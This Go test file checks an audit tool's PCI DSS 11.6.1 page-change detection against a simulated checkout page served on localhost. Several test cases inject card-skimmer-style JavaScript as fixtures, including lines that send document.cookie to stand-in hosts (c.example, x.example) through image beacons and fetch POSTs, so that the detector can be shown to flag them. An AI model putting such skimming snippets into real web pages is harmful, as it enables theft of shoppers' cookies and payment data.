package main

import (
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/audit-tool/audit/baseline"
	"github.com/audit-tool/audit/fleet"
	"github.com/audit-tool/audit/outcome"
	"github.com/audit-tool/audit/reports"
	"github.com/audit-tool/audit/store"
)

// shopPage is a checkout served from 127.0.0.1 whose scripts and headers a
// test changes between runs, as a compromised deployment would.
type shopPage struct {
	mu      sync.Mutex
	scripts map[string]string // path → body, each loaded by the page
	order   []string
	headers map[string]string
	served  int
	// cart is the page's own inline script; inlines are more of them,
	// where {token} and {n} become per-request values.
	cart    string
	inlines []string
}

func newShopPage() *shopPage {
	p := &shopPage{}
	p.reset()
	return p
}

// reset puts the page back as first deployed.
func (p *shopPage) reset() {
	p.mu.Lock()
	p.scripts, p.order = map[string]string{}, nil
	p.cart, p.inlines = "window.cart = {total: 42};", nil
	p.headers = map[string]string{
		// A fresh nonce per response, as strict CSPs have it: not a change.
		"Content-Security-Policy": "script-src 'self' 'nonce-{nonce}'; frame-ancestors 'none'",
		"X-Frame-Options":         "DENY",
		"Referrer-Policy":         "strict-origin",
	}
	p.mu.Unlock()
	p.addScript("/assets/app.js", "document.getElementById('pay').dataset.ready = '1';")
}

func (p *shopPage) addScript(path, body string) {
	p.mu.Lock()
	defer p.mu.Unlock()
	if _, ok := p.scripts[path]; !ok {
		p.order = append(p.order, path)
	}
	p.scripts[path] = body
}

// addTag adds a script tag of an absolute URL, served elsewhere.
func (p *shopPage) addTag(url string) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.order = append(p.order, url)
}

func (p *shopPage) addInline(html string) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.inlines = append(p.inlines, html)
}

func (p *shopPage) setCart(code string) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.cart = code
}

func (p *shopPage) dropHeader(name string) {
	p.mu.Lock()
	defer p.mu.Unlock()
	delete(p.headers, name)
}

func (p *shopPage) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	p.mu.Lock()
	defer p.mu.Unlock()
	if body, ok := p.scripts[r.URL.Path]; ok {
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprint(w, body)
		return
	}
	if r.URL.Path != "/checkout" {
		http.NotFound(w, r)
		return
	}
	p.served++
	nonce := fmt.Sprintf("n%dx%d", p.served, time.Now().UnixNano())
	for k, v := range p.headers {
		w.Header().Set(k, strings.ReplaceAll(v, "{nonce}", nonce))
	}
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	var tags strings.Builder
	for _, s := range p.inlines {
		// What a server renders per request: a token, an order number.
		token := fmt.Sprintf("%x", sha256.Sum256([]byte(nonce)))[:32]
		fmt.Fprintln(&tags, strings.NewReplacer("{nonce}", nonce, "{token}", token, "{n}", fmt.Sprint(1000+p.served)).Replace(s))
	}
	for _, s := range p.order {
		fmt.Fprintf(&tags, "<script src=%q></script>\n", s)
	}
	// Card fields posting to the merchant: SAQ D, where 11.6.1 applies.
	fmt.Fprintf(w, `<!doctype html><html><head><title>Checkout</title></head><body>
<form id="pay" action="/orders/pay" method="post">
<label for="cc">Card number</label><input id="cc" name="cardnumber" autocomplete="cc-number">
<input name="exp" autocomplete="cc-exp"><input name="cvc" autocomplete="cc-csc">
<button>Pay</button></form>
<script nonce="%s">%s</script>
%s</body></html>`, nonce, p.cart, tags.String())
}

// changeRun runs the 11.6.1 step against the page with the baseline file.
func changeRun(t *testing.T, url, file string, allow string) reports.Step {
	t.Helper()
	code, steps := runJSON(t, "run", t.TempDir(), "--checklist", "pci-dss", "--offline", "--engine", "browser",
		"--only", "pci-dss.page_change_detection,pci-dss.saq_scope",
		"--baseline", file, "--var", "checkout_page="+url, "--var", `source_dirs=["`+t.TempDir()+`"]`,
		"--var", "script_allowlist="+allow)
	st, ok := steps["pci-dss.page_change_detection"]
	require.True(t, ok, "code %d: %v", code, steps)
	require.Equal(t, reports.Pass, steps["pci-dss.saq_scope"].Status, steps["pci-dss.saq_scope"].Message)
	require.Contains(t, steps["pci-dss.saq_scope"].Message, "SAQ D")
	return st
}

// TestBaselineChangeDetection drives `audit run --baseline` twice through
// Chromium, the page probe and the 11.6.1 step: the first run records the
// page; after a change the second fails with the diff as evidence, unless
// the allowlist covers it.
func TestBaselineChangeDetection(t *testing.T) {
	const justified = `[{ script = "/assets/app.js", reason = "checkout logic, reviewed in SEC-7" }]`
	tests := []struct {
		name   string
		change func(p *shopPage)
		allow  string
		want   reports.Status
		detail string // evidence that must be present
	}{
		{"unchanged", func(*shopPage) {}, justified, reports.Pass, ""},
		{"new script", func(p *shopPage) { p.addScript("/assets/skim.js", "new Image().src='/c?'+1;") }, justified,
			reports.Fail, "script_added {url}/assets/skim.js: new script sha256-"},
		{"changed hash", func(p *shopPage) { p.addScript("/assets/app.js", "fetch('/c',{method:'POST'});") }, justified,
			reports.Fail, "script_changed {url}/assets/app.js: sha256-"},
		{"dropped header", func(p *shopPage) { p.dropHeader("Content-Security-Policy") }, justified,
			reports.Fail, "header_removed content-security-policy: was: script-src 'self' 'nonce-*'; frame-ancestors 'none'"},
		{"new script in the allowlist", func(p *shopPage) { p.addScript("/assets/chat.js", "void 0;") },
			`[{ script = "/assets/app.js", reason = "checkout logic" }, { script = "/assets/chat.js", reason = "support chat, SEC-9" }]`,
			reports.Pass, "authorised script_added {url}/assets/chat.js: new script sha256-"},
		{"new hash of a dynamic entry", func(p *shopPage) { p.addScript("/assets/app.js", "void 1;") },
			`[{ script = "/assets/app.js", reason = "rebuilt on every deploy", dynamic = true }]`,
			reports.Pass, "authorised script_changed {url}/assets/app.js: sha256-"},
		{"new hash of a fixed entry", func(p *shopPage) { p.addScript("/assets/app.js", "void 2;") }, justified,
			reports.Fail, "script_changed {url}/assets/app.js: sha256-"},
	}
	// One server, one recorded baseline: each case starts from a copy of
	// it and changes the page.
	page := newShopPage()
	srv := httptest.NewServer(page)
	defer srv.Close()
	url := srv.URL + "/checkout"
	recorded := filepath.Join(t.TempDir(), "baseline.json")
	first := changeRun(t, url, recorded, justified)
	require.Equal(t, reports.Pass, first.Status, first.Message)
	assert.Contains(t, first.Message, "Baseline recorded in "+recorded)
	b, err := baseline.Load(recorded)
	require.NoError(t, err)
	rec, ok := b.Pages[url]
	require.True(t, ok, "recorded under the page's source: %v", b.Pages)
	assert.Equal(t, "browser", rec.Engine)
	require.Len(t, rec.Scripts, 2)
	assert.Equal(t, srv.URL+"/assets/app.js", rec.Scripts[1].Key)
	assert.Equal(t, "script-src 'self' 'nonce-*'; frame-ancestors 'none'", rec.Headers["content-security-policy"])
	assert.Equal(t, "DENY", rec.Headers["x-frame-options"])
	raw, err := os.ReadFile(recorded)
	require.NoError(t, err)

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			page.reset()
			file := filepath.Join(t.TempDir(), "baseline.json")
			require.NoError(t, os.WriteFile(file, raw, 0o644))
			tt.change(page)
			st := changeRun(t, url, file, tt.allow)
			assert.Equal(t, tt.want, st.Status, st.Message)
			var details []string
			for _, e := range st.Evidence {
				details = append(details, e.Detail)
				assert.Equal(t, file, e.Source)
			}
			if tt.detail != "" {
				want := strings.ReplaceAll(tt.detail, "{url}", srv.URL)
				found := false
				for _, d := range details {
					found = found || strings.HasPrefix(d, want) || strings.Contains(d, " "+want)
				}
				assert.True(t, found, "want evidence %q in %q", want, details)
			}
			if tt.want == reports.Fail {
				assert.Contains(t, st.Message, "not covered by script_allowlist")
			} else {
				assert.Contains(t, st.Message, "No unauthorised change since the baseline of")
			}
			// A comparison never rewrites the record it compares with.
			after, err := os.ReadFile(file)
			require.NoError(t, err)
			assert.JSONEq(t, string(raw), string(after))
		})
	}
}

// TestBaselineUnreadable: a baseline that cannot be parsed leaves the step
// in error, never a pass, and is not overwritten.
func TestBaselineUnreadable(t *testing.T) {
	srv := httptest.NewServer(newShopPage())
	defer srv.Close()
	file := filepath.Join(t.TempDir(), "baseline.json")
	require.NoError(t, os.WriteFile(file, []byte(`{"version": 1, "pages": {`), 0o644))
	_, steps := runJSON(t, "run", t.TempDir(), "--checklist", "pci-dss", "--offline", "--engine", "browser",
		"--only", "pci-dss.page_change_detection", "--baseline", file,
		"--var", "checkout_page="+srv.URL+"/checkout", "--var", `source_dirs=["`+t.TempDir()+`"]`)
	st := steps["pci-dss.page_change_detection"]
	assert.Equal(t, reports.Error, st.Status, st.Message)
	assert.Contains(t, st.Message, file+":1:")
	raw, err := os.ReadFile(file)
	require.NoError(t, err)
	assert.Equal(t, `{"version": 1, "pages": {`, string(raw))
	var v any
	assert.Error(t, json.Unmarshal(raw, &v))
}

// TestFleetBaselineInStore: `audit fleet run --baseline` keeps each
// merchant's page in the store. The first fleet run records both pages; a
// week later the one whose bundle changed fails 11.6.1 with the diff, the
// other passes; the store row is the record compared with, not rewritten.
func TestFleetBaselineInStore(t *testing.T) {
	t.Run("sqlite", func(t *testing.T) { fleetBaselineInStore(t, "") })
	// The same path into PostgreSQL (the package's shared server, a fresh
	// database).
	t.Run("postgres", func(t *testing.T) { fleetBaselineInStore(t, postgresURL(t)) })
}

// fleetBaselineInStore runs the fleet twice into storeURL ("" for the
// default SQLite file beside the fleet file).
func fleetBaselineInStore(t *testing.T, storeURL string) {
	t.Setenv(envStore, "")
	t.Setenv(envFleetRun, "")
	t.Setenv(fleet.EnvIndex, "")
	dir := t.TempDir()
	// Card fields posting to the merchant (SAQ D, where 11.6.1 applies),
	// the same built page for both: the store keeps them apart.
	page := `<!doctype html><html><head><title>Pay</title></head><body>
<form action="/orders/pay" method="post"><input name="cardnumber" autocomplete="cc-number">
<input name="cvc" autocomplete="cc-csc"><button>Pay</button></form>
<script src="/assets/app.js"></script></body></html>`
	for _, m := range []string{"north", "south"} {
		writeFiles(t, filepath.Join(dir, m), map[string]string{
			"dist/checkout.html": page, "dist/assets/app.js": "window.shop = 1;\n", "src/app.js": "export {};\n",
		})
	}
	path := filepath.Join(dir, "fleet.hcl")
	require.NoError(t, os.WriteFile(path, []byte(`
merchant "north" {
  path = "north"
  vars = { checkout_page = "dist/checkout.html", source_dirs = ["src"] }
}
merchant "south" {
  path = "south"
  vars = { checkout_page = "dist/checkout.html", source_dirs = ["src"] }
}
`), 0o644))
	db := "sqlite://" + filepath.Join(dir, defaultStoreFile)
	var storeFlag []string
	if storeURL != "" {
		db, storeFlag = storeURL, []string{"--store", storeURL}
	}
	step := func(t *testing.T, out, merchant string) reports.Step {
		t.Helper()
		raw, err := os.ReadFile(filepath.Join(out, merchant, "audit.json"))
		require.NoError(t, err)
		var res reports.Result
		require.NoError(t, json.Unmarshal(raw, &res))
		for _, s := range res.Steps {
			if s.ID == "pci-dss.page_change_detection" {
				return s
			}
		}
		t.Fatalf("%s: no 11.6.1 step in %s", merchant, raw)
		return reports.Step{}
	}
	fleetRun := func(t *testing.T, run, now string) string {
		t.Helper()
		out := filepath.Join(dir, "out-"+run)
		_, _, stderr := audit(t, append([]string{"fleet", "run", path, "--offline", "--checklist", "pci-dss", "--engine", "browser", "--baseline",
			"--fleet-run", run, "--now", now, "--only", "pci-dss.page_change_detection", "--format", "json", "--out", out}, storeFlag...)...)
		require.NotContains(t, stderr, "merchant north:", stderr)
		require.NotContains(t, stderr, "merchant south:", stderr)
		return out
	}

	out := fleetRun(t, "w47", "2026-11-23T10:00:00Z")
	for _, m := range []string{"north", "south"} {
		st := step(t, out, m)
		assert.Equal(t, reports.Pass, st.Status, st.Message)
		assert.Contains(t, st.Message, "Baseline recorded in "+store.Redact(db)+" (merchant "+m+")")
	}
	s, err := store.Open(context.Background(), db)
	require.NoError(t, err)
	blob, at, err := s.Baseline(context.Background(), "north", "dist/checkout.html")
	require.NoError(t, err)
	assert.Equal(t, fleetNow, at.UTC())
	rec, err := baseline.Parse(blob, "north")
	require.NoError(t, err)
	require.Len(t, rec.Pages["dist/checkout.html"].Scripts, 1)
	assert.Equal(t, "/assets/app.js", rec.Pages["dist/checkout.html"].Scripts[0].Key)
	s.Close()

	require.NoError(t, os.WriteFile(filepath.Join(dir, "north", "dist", "assets", "app.js"),
		[]byte("window.shop = 1; new Image().src = 'https://c.example/?' + document.cookie;\n"), 0o644))
	out = fleetRun(t, "w48", "2026-11-30T10:00:00Z")
	north := step(t, out, "north")
	assert.Equal(t, reports.Fail, north.Status, north.Message)
	assert.Contains(t, north.Message, "since the baseline of 2026-11-23T10:00:00Z")
	require.NotEmpty(t, north.Evidence)
	assert.Contains(t, north.Evidence[0].Detail, "script_changed /assets/app.js: sha256-")
	assert.Equal(t, store.Redact(db)+" (merchant north)", north.Evidence[0].Source)
	south := step(t, out, "south")
	assert.Equal(t, reports.Pass, south.Status, south.Message)
	assert.Contains(t, south.Message, "No unauthorised change since the baseline of 2026-11-23T10:00:00Z")
	// The comparison left the record as it was.
	s, err = store.Open(context.Background(), db)
	require.NoError(t, err)
	again, at, err := s.Baseline(context.Background(), "north", "dist/checkout.html")
	require.NoError(t, err)
	assert.Equal(t, fleetNow, at.UTC())
	assert.Equal(t, blob, again)
	s.Close()

	// A fleet's merchants cannot share one file.
	code, _, stderr := audit(t, "fleet", "run", path, "--offline", "--checklist", "pci-dss", "--baseline=page.json")
	assert.Equal(t, outcome.ExitUsage, code)
	assert.Contains(t, stderr, "give --baseline alone")
}

// TestBaselineInlinePerRequest: an inline script that carries per-request
// data (a CSRF token, an order number) has a new hash on every response,
// so 11.6.1 fails it on every run unless the allowlist names it stably —
// by its id with dynamic = true, or by its code with declared variable
// parts. Either way a new inline script, another inline script changed,
// code outside the declared parts or a second script under the same id
// still fails; the evidence is the diff of the code.
func TestBaselineInlinePerRequest(t *testing.T) {
	const state = `<script nonce="{nonce}" id="checkout-state" data-role="state">window.checkout = {csrf: "{token}", order: {n}};</script>`
	const byID = `
  script "inline#checkout-state" {
    reason  = "per-request CSRF token and order number, rendered by the server (SEC-12)"
    dynamic = true
  }`
	const byCode = `
  script "inline" {
    reason = "per-request CSRF token and order number (SEC-12)"
    code   = "window.checkout = {csrf: \"{{csrf}}\", order: {{order}}};"
    parts  = { csrf = "[0-9a-f]{32}", order = "[0-9]{1,10}" }
  }`
	const skim = `<script nonce="{nonce}">new Image().src = 'https://x.example/?' + document.cookie;</script>`
	tests := []struct {
		name, entries string
		change        func(p *shopPage)
		want          reports.Status
		detail        []string // fragments of one evidence line
	}{
		// Unlisted, it is still paired with its former code by its id.
		{"no entry", "", func(*shopPage) {}, reports.Fail, []string{"script_changed inline#checkout-state (line ", `{csrf: "[`, " → "}},
		{"named by its id, dynamic", byID, func(*shopPage) {}, reports.Pass,
			[]string{"authorised script_changed inline#checkout-state (line ", `{csrf: "[`, "order: [", " → ", "(allowlist: dynamic)"}},
		{"its code with variable parts", byCode, func(*shopPage) {}, reports.Pass,
			[]string{"authorised script_changed inline (line ", `{csrf: "[`, "(allowlist: its declared variable parts)"}},
		{"a new inline script beside it", byID, func(p *shopPage) { p.addInline(skim) }, reports.Fail,
			[]string{"script_added inline:sha256-"}},
		{"the page's other inline script changed", byCode, func(p *shopPage) { p.setCart("window.cart = {total: 42}; fetch('https://x.example/c');") },
			reports.Fail, []string{"script_added inline:sha256-"}},
		{"code outside the variable parts", byCode, func(p *shopPage) {
			p.mu.Lock()
			p.inlines = []string{strings.Replace(state, "};", "}; fetch('https://x.example/c', {method: 'POST', body: document.cookie});", 1)}
			p.mu.Unlock()
		}, reports.Fail, []string{"script_changed inline#checkout-state (line ", "[ → ; fetch('https://x.example/c', {method: 'POST', body: document.cookie})]"}},
		{"a second script under the id", byID, func(p *shopPage) {
			p.addInline(strings.Replace(skim, "<script ", `<script id="checkout-state" `, 1))
		}, reports.Fail, []string{"script_added inline:sha256-"}},
	}
	page := newShopPage()
	page.addInline(state)
	srv := httptest.NewServer(page)
	defer srv.Close()
	url := srv.URL + "/checkout"
	cart := sha256.Sum256([]byte("window.cart = {total: 42};"))
	cartHash := "sha256-" + base64.StdEncoding.EncodeToString(cart[:])
	run := func(t *testing.T, entries, file string) map[string]reports.Step {
		t.Helper()
		dir := t.TempDir()
		writeFiles(t, dir, map[string]string{"src/app.js": "export {};\n", "audit.hcl": fmt.Sprintf(`use "pci-dss" {
  checkout_page = %q
  source_dirs   = ["src"]
  script "/assets/app.js" { reason = "checkout logic, reviewed in SEC-7" }
  script %q { reason = "cart total, fixed" }
%s
}
`, url, cartHash, entries)})
		code, steps := runJSON(t, "run", dir, "--offline", "--engine", "browser", "--baseline", file,
			"--only", "pci-dss.page_change_detection,pci-dss.saq_scope,pci-dss.script_inventory")
		require.Contains(t, steps, "pci-dss.page_change_detection", "code %d", code)
		require.Contains(t, steps["pci-dss.saq_scope"].Message, "SAQ D")
		return steps
	}
	recorded := filepath.Join(t.TempDir(), "baseline.json")
	first := run(t, byID, recorded)["pci-dss.page_change_detection"]
	require.Equal(t, reports.Pass, first.Status, first.Message)
	b, err := baseline.Load(recorded)
	require.NoError(t, err)
	var kept *baseline.Script
	for i, s := range b.Pages[url].Scripts {
		if s.Attrs["id"] == "checkout-state" {
			kept = &b.Pages[url].Scripts[i]
		}
	}
	require.NotNil(t, kept, "the record keeps the inline script's attributes: %+v", b.Pages[url].Scripts)
	assert.Equal(t, "state", kept.Attrs["data-role"])
	assert.Contains(t, kept.Text, `window.checkout = {csrf: "`)
	raw, err := os.ReadFile(recorded)
	require.NoError(t, err)

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			page.reset()
			page.addInline(state)
			file := filepath.Join(t.TempDir(), "baseline.json")
			require.NoError(t, os.WriteFile(file, raw, 0o644))
			tt.change(page)
			steps := run(t, tt.entries, file)
			st := steps["pci-dss.page_change_detection"]
			assert.Equal(t, tt.want, st.Status, st.Message)
			var details []string
			found := false
			for _, e := range st.Evidence {
				details = append(details, e.Detail)
				all := true
				for _, f := range tt.detail {
					all = all && strings.Contains(e.Detail, f)
				}
				found = found || all
			}
			assert.True(t, found, "want evidence with %q in %q", tt.detail, details)
			inv := steps["pci-dss.script_inventory"]
			if tt.want == reports.Pass {
				// The same entry authorises the script for 6.4.3.
				assert.Equal(t, reports.Pass, inv.Status, inv.Message)
			} else {
				assert.Contains(t, st.Message, "not covered by script_allowlist")
				assert.Equal(t, reports.Fail, inv.Status, inv.Message)
			}
		})
	}
}

// TestBaselineUnseenScripts: a script nobody received — blocked offline,
// or its server failing — has no hash, in the record or in this run, so
// 11.6.1 cannot say it is unchanged: the step is an error naming it, never
// a pass, unless its entry says the provider changes it in place.
func TestBaselineUnseenScripts(t *testing.T) {
	var cdnDown sync.Map // path → true while the "CDN" fails
	cdn := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if _, down := cdnDown.Load(r.URL.Path); down {
			http.Error(w, "unavailable", http.StatusServiceUnavailable)
			return
		}
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprint(w, "window.widget = 1;")
	}))
	defer cdn.Close()
	page := newShopPage()
	srv := httptest.NewServer(page)
	defer srv.Close()
	url := srv.URL + "/checkout"
	const app = `{ script = "/assets/app.js", reason = "checkout logic, reviewed in SEC-7" }`
	const offsite = "https://cdn.widgets.example/w.js" // not loopback: blocked offline
	tests := []struct {
		name          string
		script        string // its tag's URL
		allow         string
		downAtRecord  bool
		downAtCompare bool
		record, again reports.Status
		why           string // in the second run's message
	}{
		{"blocked offline, recorded and compared", offsite, "[" + app + "]", false, false, reports.Error, reports.Error,
			offsite + " not received in this run (offline): its content cannot be compared with (no hash)"},
		{"blocked offline, its provider changes it in place", offsite,
			`[` + app + `, { script = "cdn.widgets.example", reason = "widget, updated in place by its vendor", dynamic = true }]`,
			false, false, reports.Pass, reports.Pass, ""},
		{"its server failed when recorded", cdn.URL + "/a.js", "[" + app + "]", true, false, reports.Error, reports.Error,
			cdn.URL + "/a.js not received when the baseline was recorded ("},
		{"its server fails in this run", cdn.URL + "/b.js", "[" + app + "]", false, true, reports.Pass, reports.Error,
			cdn.URL + "/b.js not received in this run ("},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			page.reset()
			// The page's own CSP would stop the other origin's script.
			page.dropHeader("Content-Security-Policy")
			page.addTag(tt.script)
			path := tt.script[strings.LastIndex(tt.script, "/"):]
			file := filepath.Join(t.TempDir(), "baseline.json")
			setDown := func(down bool) {
				if down {
					cdnDown.Store(path, true)
				} else {
					cdnDown.Delete(path)
				}
			}
			setDown(tt.downAtRecord)
			first := changeRun(t, url, file, tt.allow)
			assert.Equal(t, tt.record, first.Status, first.Message)
			if tt.record == reports.Error {
				assert.Contains(t, first.Message, "without their content")
				assert.Contains(t, first.Message, tt.script+" not received (")
			}
			b, err := baseline.Load(file)
			require.NoError(t, err, "the record is kept all the same")
			require.Contains(t, b.Pages, url)
			setDown(tt.downAtCompare)
			st := changeRun(t, url, file, tt.allow)
			assert.Equal(t, tt.again, st.Status, st.Message)
			if tt.why != "" {
				assert.Contains(t, st.Message, "could not be compared with the baseline of")
				assert.Contains(t, st.Message, tt.why)
				if tt.script != offsite {
					// The hash of the run that did receive it.
					assert.Contains(t, st.Message, "sha256-")
				}
			}
		})
	}
}
